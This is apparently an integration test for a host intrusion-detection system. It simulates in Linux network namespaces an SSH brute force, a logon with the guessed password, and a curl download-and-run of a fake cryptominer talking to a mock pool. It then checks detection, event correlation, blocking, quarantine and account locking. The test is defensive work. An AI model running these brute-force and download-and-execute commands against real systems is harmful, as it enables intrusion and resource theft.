import { test, before, after } from "node:test";
import assert from "node:assert/strict";
import { spawn, spawnSync, type ChildProcess } from "node:child_process";
import { existsSync, mkdirSync, openSync, readdirSync, readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { randomBytes } from "node:crypto";
import { tempDir, startServer, enrolToken, waitFor } from "../helpers.ts";
import { canRunNetns, inNs, ip, namespaceHost, tcpConnects, wire } from "./netns.ts";
import { minerJob, poolScript } from "./stratum.ts";
import type { HostwardServer } from "../../src/server/index.ts";

/**
 * Issue #9's scenario for real (EVT-1, EVT-2, EVT-4, EVT-6 … EVT-8, RSP-1): two namespace hosts,
 * each its own network, PID and UTS namespace (so each agent sees only its own processes, as on
 * two machines) with a real sshd logging to a file and a real `hostward agent` process; one
 * attacker namespace on their LAN.
 *
 *   root 10.77.21.1 ── c1 (10.77.21.2 | 10.77.23.11) ──┐
 *   root 10.77.22.1 ── c2 (10.77.22.2 | 10.77.23.12) ──┴── bridge in atk: 10.77.23.2 attacker,
 *                                                          .9 stratum pool, .3 a second attacker
 *
 * The attacker guesses a local account's password on c1, logs on with it, downloads a "miner"
 * (a copy of bash) and its job script from its own web server, runs it — it holds a stratum
 * session with the pool and burns a core — and guesses passwords on c2 too. The lab LAN is
 * declared external (`externalNets`), as the miner test does: private addresses never join
 * events across assets nor count as pools otherwise.
 *
 * Automatic defence is turned off for the account first (alert-only mode, as many operators
 * run while they tune): with it on, the brute force on c1 would block the attacker within
 * 2 s and the logon would be a race against that block. With it off the chain is the same
 * every run, and blocking is what the operator's resolution does.
 */
const skip = canRunNetns() ?? (spawnSync("sh", ["-c", "command -v unshare && command -v curl && command -v usermod"]).status !== 0 ? "unshare, curl or usermod is not installed" : null);
const id = process.pid % 100000;
const c1 = namespaceHost("c1", 21), c2 = namespaceHost("c2", 22);
const ATK = `hw-ca-${id}`, BR = `hwcb${id}`;
const LAN = "10.77.23", ATTACKER = `${LAN}.2`, SECOND = `${LAN}.3`, POOL = `${LAN}.9`;
const SSHD = { c1: `${LAN}.11`, c2: `${LAN}.12` };
const WEB_PORT = 18500 + (id % 400);
const USER = `hwatk${id}`;
const CLI = join(import.meta.dirname, "..", "..", "src", "cli", "main.ts");
const DROP = `/tmp/.hw-atk-${id}`;
const MINER = `${DROP}/minerd`;

let tmp: ReturnType<typeof tempDir>;
let server: HostwardServer;
let adminToken = "";
const procs: ChildProcess[] = [];
const logs = { c1: "", c2: "" };

const api = async (url: string, method = "GET", payload?: unknown) => {
  const r = await server.api.inject({ method: method as "GET", url, headers: { authorization: `Bearer ${adminToken}` }, payload: payload as object });
  return { status: r.statusCode, body: r.json() };
};

function nftBlocked(ns: string): string[] {
  const r = inNs(ns, "nft", ["-j", "list", "set", "inet", "hostward", "blocked4"]);
  if (r.status !== 0) return [];
  const j = JSON.parse(r.stdout) as { nftables: { set?: { elem?: unknown[] } }[] };
  return (j.nftables.find((x) => x.set)?.set?.elem ?? []).map((e) => (typeof e === "string" ? e : String((e as { elem: { val: string } }).elem.val)));
}

const sshArgs = (from: string, password: string, user: string, host: string, cmd: string) =>
  ["netns", "exec", ATK, "sshpass", "-p", password, "ssh", "-b", from, "-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null", "-o", "PreferredAuthentications=password", "-o", "PubkeyAuthentication=no", "-o", "NumberOfPasswordPrompts=1", "-o", "ConnectTimeout=3", "-o", "LogLevel=ERROR", `${user}@${host}`, cmd];

/** One failed password guess (a separate connection, as brute-force tools make). */
const guess = (from: string, host: string, user: string) => new Promise<void>((resolve) => spawn("ip", sshArgs(from, "wrong-password", user, host, "true"), { stdio: "ignore" }).on("exit", () => resolve()));
const failures = (log: string, from: string) => readFileSync(log, "utf8").split("\n").filter((l) => l.includes("Failed password") && l.includes(` from ${from} port `)).length;


/** The miner's job: a stratum session with the pool, then a core kept busy. */
const JOB = minerJob(POOL);

/** The attacker's web server: the "miner" (bash's bytes) and its job, each after a second (a slow link: the agent samples /proc every 250 ms). */
const WEB_JS = (job: string) => `
const bash = require("fs").readFileSync("/usr/bin/bash");
const job = Buffer.from(${JSON.stringify(Buffer.from(job).toString("base64"))}, "base64");
require("http").createServer((q, s) => setTimeout(() => s.end(q.url === "/minerd" ? bash : job), 1000)).listen(${WEB_PORT}, ${JSON.stringify(ATTACKER)});
`;

/** A namespace host: its own PID and UTS namespaces (own /proc, own host name) with sshd and the agent inside. */
function startHost(h: typeof c1, name: "c1" | "c2", agentUrl: string, token: string): void {
  const dir = join(tmp.dir, name);
  mkdirSync(dir, { recursive: true });
  const conf = join(dir, "sshd_config");
  logs[name] = join(dir, "auth.log");
  writeFileSync(logs[name], "");
  writeFileSync(conf, [`ListenAddress ${SSHD[name]}`, "Port 22", "HostKey /etc/ssh/ssh_host_ed25519_key", "PasswordAuthentication yes", "KbdInteractiveAuthentication no", "UsePAM no", `PidFile ${join(dir, "sshd.pid")}`, "MaxStartups 100:30:200", "LogLevel INFO", ""].join("\n"));
  // sshd logs to stderr; the shim stamps each line as rsyslog writes /var/log/auth.log
  const script = [
    `hostname hw-${name}`,
    `/usr/sbin/sshd -D -e -f ${conf} 2>&1 | while IFS= read -r l; do printf '%s.000000+00:00 hw-${name} sshd[%s]: %s\\n' "$(TZ=UTC printf '%(%Y-%m-%dT%H:%M:%S)T' -1)" "$$" "$l" >> ${logs[name]}; done &`,
    `${process.execPath} ${CLI} agent --server ${agentUrl} --token ${token} --state ${join(dir, "agent")} --auth-log ${logs[name]} --from-start --no-baseline --web-deny-file ${join(dir, "deny.conf")} &`,
    "wait",
  ].join("\n");
  const out = openSync(join(dir, "host.log"), "a");
  h.procs.push(spawn("ip", ["netns", "exec", h.ns, "unshare", "--pid", "--fork", "--mount-proc", "--uts", "bash", "-c", script], { stdio: ["ignore", out, out], detached: true, env: { ...process.env, HOSTWARD_LOG_LEVEL: "info" } }));
}

before(async () => {
  if (skip) return;
  tmp = tempDir("hw-chain-");
  c1.setup();
  c2.setup();
  ip("netns", "add", ATK);
  ip("-n", ATK, "link", "add", BR, "type", "bridge");
  ip("-n", ATK, "link", "set", BR, "up");
  for (const a of [ATTACKER, SECOND, POOL]) ip("-n", ATK, "addr", "add", `${a}/24`, "dev", BR);
  for (const [h, addr, n] of [[c1, SSHD.c1, 1], [c2, SSHD.c2, 2]] as const) {
    wire({ ns: h.ns, ifname: `hwcl${n}${id}`, addrs: [`${addr}/24`] }, { ns: ATK, ifname: `hwcp${n}${id}`, addrs: [] });
    ip("-n", ATK, "link", "set", `hwcp${n}${id}`, "master", BR);
  }
  // c2 reaches the server's agent channel on c1's root link: a local address of the root namespace
  ip("-n", c2.ns, "route", "add", `${c1.rootIp}/32`, "via", c2.rootIp);
  mkdirSync("/run/sshd", { recursive: true });

  spawnSync("userdel", ["-r", USER], { stdio: "ignore" });
  assert.equal(spawnSync("useradd", ["-m", "-s", "/bin/bash", USER]).status, 0);
});

after(async () => {
  if (skip) return;
  // the processes die (and close their connections to the server) before their networks go
  const all = [...procs, ...c1.procs, ...c2.procs];
  for (const p of all) {
    try {
      if (p.pid) process.kill(-p.pid, "SIGKILL");
    } catch { /* gone */ }
  }
  await Promise.all(all.map((p) => (p.exitCode !== null || p.signalCode !== null ? null : new Promise((resolve) => { p.once("exit", resolve); setTimeout(resolve, 5000); }))));
  c1.teardown();
  c2.teardown();
  try { ip("netns", "del", ATK); } catch { /* gone */ }
  await server?.close();
  spawnSync("userdel", ["-r", USER], { stdio: "ignore" });
  spawnSync("rm", ["-rf", DROP]);
  tmp.cleanup();
});

test("issue #9: brute force, logon, download, a miner with its pool, a second asset hit — one event, its graph and stages, the recommended handling carried out for real; Handled, and a later alert opens a new event", { skip: skip ?? false, timeout: 240_000 }, async (t) => {
  const password = randomBytes(18).toString("base64url");
  assert.equal(spawnSync("chpasswd", [], { input: `${USER}:${password}\n` }).status, 0);
  const poolLog = join(tmp.dir, "pool.log");
  writeFileSync(poolLog, "");
  for (const js of [poolScript(poolLog, POOL), WEB_JS(JOB)]) procs.push(spawn("ip", ["netns", "exec", ATK, process.execPath, "-e", js], { stdio: "ignore", detached: true }));

  ({ server, adminToken } = await startServer({ dataDir: join(tmp.dir, "server"), overrides: { agentChannel: { host: c1.rootIp, port: 0 }, externalNets: [`${LAN}.0/24`] } }));
  assert.equal((await api("/api/v1/settings/defence", "PUT", { enabled: false })).status, 200);
  const agentUrl = `https://${c1.rootIp}:${(server.agentChannel.server.address() as { port: number }).port}`;
  startHost(c1, "c1", agentUrl, await enrolToken(server));
  startHost(c2, "c2", agentUrl, await enrolToken(server));
  const agents = await waitFor("both agents enrolled", async () => {
    const items = (await api("/api/v1/agents")).body.items as { id: string; hostname: string }[];
    return items.length === 2 && items;
  }, 30_000, 200);
  const asset1 = agents.find((a) => a.hostname === "hw-c1")!.id, asset2 = agents.find((a) => a.hostname === "hw-c2")!.id;
  for (const h of [c1, c2]) await waitFor(`nft table in ${h.ns}`, () => inNs(h.ns, "nft", ["list", "table", "inet", "hostward"]).status === 0, 20_000, 100);
  for (const addr of [SSHD.c1, SSHD.c2]) await waitFor(`sshd on ${addr}`, () => tcpConnects(ATK, addr, 22, ATTACKER), 10_000, 200);
  await waitFor("attacker web server", () => tcpConnects(c1.ns, ATTACKER, WEB_PORT), 10_000, 100);
  const alertOf = (type: string, assetId: string, timeout = 30_000) => waitFor(`${type} alert on ${assetId === asset1 ? "c1" : "c2"}`, async () => ((await api(`/api/v1/alerts?type=${type}&assetId=${assetId}`)).body.items as { id: string; type: string; evidence: Record<string, unknown> }[])[0], timeout, 200);

  // --- credential access: password guesses against the local account on c1 ---
  for (let i = 0; i < 5; i++) await guess(ATTACKER, SSHD.c1, USER);
  await waitFor("5 failures logged on c1", () => failures(logs.c1, ATTACKER) >= 5, 10_000, 50);
  const brute1 = await alertOf("ssh_brute_force", asset1);

  // --- initial access and the rest: the guessed password works; the session downloads and runs the miner (it holds the session open) ---
  const session = [
    // each step a process of its own that lives long enough to be sampled (bash execs a -c string's last command: `true` keeps it a child)
    "bash -c 'uname -a; sleep 1; true'",
    `mkdir -p ${DROP}`,
    `curl -s -m 10 http://${ATTACKER}:${WEB_PORT}/minerd -o ${MINER}`,
    `curl -s -m 10 http://${ATTACKER}:${WEB_PORT}/job -o ${DROP}/job`,
    `chmod +x ${MINER}`,
    `${MINER} ${DROP}/job -o stratum+tcp://${POOL}:3333 -u 44AFFq5kSiGBoZ4N --donate-level 1`,
    "true",
  ].join("; ");
  const ssh = spawn("ip", sshArgs(ATTACKER, password, USER, SSHD.c1, session), { stdio: "ignore", detached: true });
  procs.push(ssh);
  const sessionEnded = new Promise<void>((resolve) => ssh.on("exit", () => resolve()));
  await waitFor("the pool saw subscribe and authorize", () => /mining\.subscribe\nmining\.authorize\n/.test(readFileSync(poolLog, "utf8")), 20_000, 100);
  const logon = await alertOf("logon_after_brute_force", asset1);
  const program = await alertOf("mining_program", asset1);
  const pool = await alertOf("mining_pool", asset1);
  const sessionAlert = await alertOf("suspicious_ssh_session", asset1);
  assert.equal(pool.evidence["destination.ip"], POOL);
  assert.equal((program.evidence.session as { sourceIp?: string } | undefined)?.sourceIp, ATTACKER, "the miner runs in the attacker's SSH session");

  // --- the same address on the second asset ---
  for (let i = 0; i < 5; i++) await guess(ATTACKER, SSHD.c2, "root");
  await waitFor("5 failures logged on c2", () => failures(logs.c2, ATTACKER) >= 5, 10_000, 50);
  const brute2 = await alertOf("ssh_brute_force", asset2);

  // --- EVT-1: one event holds all of it ---
  const chain = [brute1, logon, sessionAlert, program, pool, brute2];
  const eventId = await waitFor("one event with every alert", async () => {
    const events = (await api("/api/v1/events?limit=50")).body.items as { id: string }[];
    for (const e of events) {
      const ids = new Set(((await api(`/api/v1/events/${e.id}/alerts`)).body.items as { id: string }[]).map((a) => a.id));
      if (chain.every((a) => ids.has(a.id))) return e.id;
    }
    return null;
  }, 15_000, 250);
  const overview = (await api(`/api/v1/events/${eventId}`)).body;
  t.diagnostic(`event ${eventId}: "${overview.title}", ${overview.alertCount} alerts (${overview.alertTypes.join(", ")}), joined by ${overview.joinedBy.join(", ")}`);
  // EVT-2: the stages, credential access first, impact (the miner) the furthest
  const tactics = (overview.tactics as { name: string }[]).map((x) => x.name);
  assert.equal(tactics[0], "Credential Access", tactics.join(" → "));
  assert.ok(tactics.includes("Initial Access") && tactics.includes("Execution"), tactics.join(" → "));
  assert.equal(overview.stage.name, "Impact");
  assert.deepEqual([...(overview.assets as { id: string }[]).map((a) => a.id)].sort(), [asset1, asset2].sort());
  assert.ok((overview.attackerIps as string[]).includes(ATTACKER));
  t.diagnostic(`stages: ${tactics.join(" → ")}`);

  // --- EVT-4: the graph links the address, both hosts, the account, the miner and the pool ---
  const graph = (await api(`/api/v1/events/${eventId}/graph`)).body as { nodes: { id: string }[]; edges: { from: string; to: string; relation: string }[] };
  const minerKey = `process:${asset1}:${MINER}`, accountKey = `account:${asset1}:${USER}`;
  const nodes = new Set(graph.nodes.map((n) => n.id));
  for (const k of [`ip:${ATTACKER}`, `host:${asset1}`, `host:${asset2}`, accountKey, minerKey, `ip:${POOL}`]) assert.ok(nodes.has(k), `${k} in the graph`);
  const edge = (from: string, relation: string, to: string) => assert.ok(graph.edges.some((e) => e.from === from && e.relation === relation && e.to === to), `${from} ${relation} ${to}`);
  edge(`ip:${ATTACKER}`, "attacked", `host:${asset1}`);
  edge(`ip:${ATTACKER}`, "attacked", `host:${asset2}`);
  edge(accountKey, "logged_on_from", `ip:${ATTACKER}`);
  edge(minerKey, "connected_to", `ip:${POOL}`);

  // --- EVT-6 / EVT-7: the recommendation ---
  const rec = (await api(`/api/v1/events/${eventId}/recommendations`)).body as { risks: { key: string; level: string; reasons: { text: string }[] }[]; items: { entityKey: string; action: string; selected: boolean; assetIds: string[]; validity: string | null }[] };
  const item = (key: string, action: string) => rec.items.find((i) => i.entityKey === key && i.action === action);
  const block = item(`ip:${ATTACKER}`, "block");
  assert.ok(block?.selected, JSON.stringify(rec.items));
  assert.deepEqual([...block.assetIds].sort(), [asset1, asset2].sort(), "block the address on both assets");
  assert.ok(item(minerKey, "kill")?.selected && item(minerKey, "quarantine")?.selected, "kill and quarantine the miner");
  const ipRisk = rec.risks.find((r) => r.key === `ip:${ATTACKER}`)!;
  t.diagnostic(`risk of ${ATTACKER}: ${ipRisk.level} — ${ipRisk.reasons.map((r) => r.text).join("; ")}`);
  const chosen = rec.items.filter((i) => i.selected).map((i) => ({ entityKey: i.entityKey, action: i.action }));
  t.diagnostic(`resolving with: ${chosen.map((c) => `${c.action} ${c.entityKey}`).join(", ")}`);

  // --- resolve: every task runs on the real hosts ---
  const resolvedAt = Date.now();
  const r = await api(`/api/v1/events/${eventId}/resolve`, "POST", { items: chosen, remark: "confirmed intrusion: cut off, miner removed" });
  assert.equal(r.status, 200, JSON.stringify(r.body));
  assert.equal(r.body.status, "handling");
  const handled = await waitFor("the event Handled", async () => {
    const e = (await api(`/api/v1/events/${eventId}`)).body;
    assert.notEqual(e.status, "failed", JSON.stringify((await api(`/api/v1/events/${eventId}/tasks`)).body.items));
    return e.status === "handled" && e;
  }, 60_000, 200);
  t.diagnostic(`resolve → Handled in ${Date.now() - resolvedAt} ms: ${handled.handledHow}`);
  for (const ns of [c1.ns, c2.ns]) assert.ok(nftBlocked(ns).includes(ATTACKER), `${ATTACKER} in ${ns}'s nftables set`);
  assert.equal(tcpConnects(ATK, SSHD.c2, 22, ATTACKER), false, "the attacker is cut off from c2");
  await Promise.race([sessionEnded, new Promise((_, rej) => setTimeout(() => rej(new Error("the miner was not killed: its SSH session goes on")), 10_000))]);
  const running = readdirSync("/proc").filter((p) => /^\d+$/.test(p)).some((p) => {
    try { return readFileSync(`/proc/${p}/cmdline`, "utf8").startsWith(MINER); } catch { return false; }
  });
  assert.equal(running, false, "no miner process left");
  assert.equal(existsSync(MINER), false, "the miner's file is gone from disk");
  const vault = await waitFor("the vault lists it", async () => ((await api(`/api/v1/quarantine?assetId=${asset1}`)).body.items as { originalPath: string }[]).find((f) => f.originalPath === MINER), 15_000, 200);
  assert.ok(vault);
  assert.ok(readFileSync("/etc/shadow", "utf8").split("\n").find((l) => l.startsWith(`${USER}:`))!.split(":")[1]!.startsWith("!"), "the compromised account is locked");
  const alerts = (await api(`/api/v1/events/${eventId}/alerts`)).body.items as { id: string; status: string; handledHow: string | null }[];
  for (const a of chain) assert.equal(alerts.find((x) => x.id === a.id)?.status, "handled", `${a.type} Handled`);
  const tasks = (await api(`/api/v1/events/${eventId}/tasks`)).body.items as { what: string; status: string; result: string }[];
  t.diagnostic(`tasks: ${tasks.map((x) => `${x.what}: ${x.status} (${x.result.slice(0, 60)})`).join(" | ")}`);

  // --- EVT-8: a later alert opens a new event ---
  const alertCount = handled.alertCount;
  for (let i = 0; i < 5; i++) await guess(SECOND, SSHD.c1, "root");
  await waitFor("5 failures from the second address", () => failures(logs.c1, SECOND) >= 5, 10_000, 50);
  const next = await waitFor("brute force from the second address", async () => ((await api(`/api/v1/alerts?type=ssh_brute_force&sourceIp=${SECOND}`)).body.items as { id: string }[])[0], 20_000, 200);
  const nextEvent = await waitFor("its event", async () => {
    for (const e of (await api("/api/v1/events?limit=50")).body.items as { id: string }[]) {
      if (((await api(`/api/v1/events/${e.id}/alerts`)).body.items as { id: string }[]).some((a) => a.id === next.id)) return e.id;
    }
    return null;
  }, 10_000, 200);
  assert.notEqual(nextEvent, eventId, "a new event");
  const after = (await api(`/api/v1/events/${eventId}`)).body;
  assert.equal(after.status, "handled");
  assert.equal(after.alertCount, alertCount, "the Handled event took no alert");
});
